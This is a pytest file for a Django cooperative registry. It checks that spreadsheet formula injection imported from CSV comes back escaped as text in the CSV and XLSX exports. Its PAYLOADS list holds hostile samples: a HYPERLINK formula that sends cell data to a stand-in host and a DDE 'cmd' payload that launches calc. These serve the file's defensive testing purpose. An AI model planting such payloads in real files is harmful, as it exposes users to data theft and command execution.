"""Formula injection through the registry (issue 10, item 4): formula-like text imported from a CSV comes back as
text in every registry export — the page's CSV and XLSX and the background job's file — numbers and dates stay
numbers and dates, and the exported file imports again without a change."""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from kopdes.core.models import ExportJob

EXPORT_URL = reverse("cooperatives:cooperative_export")
# The probe's payloads, one cooperative each (Muara Muntai's villages 64.02.01.2001-2005).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
]
VILLAGES = [f"64.02.01.200{i}" for i in range(1, 6)]


def registry_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["kode_wilayah", "tgl_musdesus", "no_akta", "tgl_akta", "notaris", "bank"])
    for village, payload in zip(VILLAGES, PAYLOADS, strict=True):
        writer.writerow([village, "2025-05-01", "7", "2025-06-02", payload, payload])
    return out.getvalue().encode()


def import_registry(tmp_path, data: bytes) -> dict:
    path = tmp_path / "registri.csv"
    path.write_bytes(data)
    out = io.StringIO()
    call_command("import_cooperatives", str(path), "--json", stdout=out)
    return json.loads(out.getvalue())


@pytest.fixture
def imported(db, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    result = import_registry(tmp_path, registry_csv())
    assert (result["created"], result["errors"]) == (5, [])
    return result


def by_village(rows: list[list]) -> dict[str, dict]:
    header = rows[0]
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}


def assert_csv_escaped(content: bytes) -> None:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    rows = by_village(list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))))
    for village, payload in zip(VILLAGES, PAYLOADS, strict=True):
        assert rows[village]["notaris"] == "'" + payload
        assert rows[village]["bank"] == "'" + payload
        assert rows[village]["no_akta"] == "7" and rows[village]["tgl_akta"] == "2025-06-02"


def assert_xlsx_text(content: bytes) -> None:
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    notary, akta_date = header.index("notaris"), header.index("tgl_akta")
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for village, payload in zip(VILLAGES, PAYLOADS, strict=True):
        cell = cells[village][notary]
        assert cell.data_type != "f" and cell.data_type == "s" and cell.value == payload
        assert cells[village][akta_date].is_date
        assert cells[village][akta_date].value == datetime.datetime(2025, 6, 2)


def test_page_exports_write_formula_like_text_as_text(client_for, kukar_officer, imported, tmp_path):
    client = client_for(kukar_officer)
    exported_csv = client.get(EXPORT_URL, {"region": "64.02.01", "format": "csv"})
    assert exported_csv.status_code == 200
    assert_csv_escaped(exported_csv.content)
    exported_xlsx = client.get(EXPORT_URL, {"region": "64.02.01", "format": "xlsx"})
    assert_xlsx_text(exported_xlsx.content)

    # The escaped export imports back as it was: the `'` is read off, nothing changes.
    again = import_registry(tmp_path, exported_csv.content)
    assert (again["unchanged"], again["updated"], again["errors"]) == (5, 0, [])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_background_export_writes_formula_like_text_as_text(
    client_for, kukar_officer, imported, settings, django_capture_on_commit_callbacks, fmt
):
    settings.KOPDES_EXPORT_SYNC_LIMIT = 1
    client = client_for(kukar_officer)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"{EXPORT_URL}?region=64.02.01", {"format": fmt})
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.DONE
    download = client.get(reverse("core:export_job_download", args=[job.pk]))
    content = b"".join(download.streaming_content)
    if fmt == "csv":
        assert_csv_escaped(content)
    else:
        assert_xlsx_text(content)
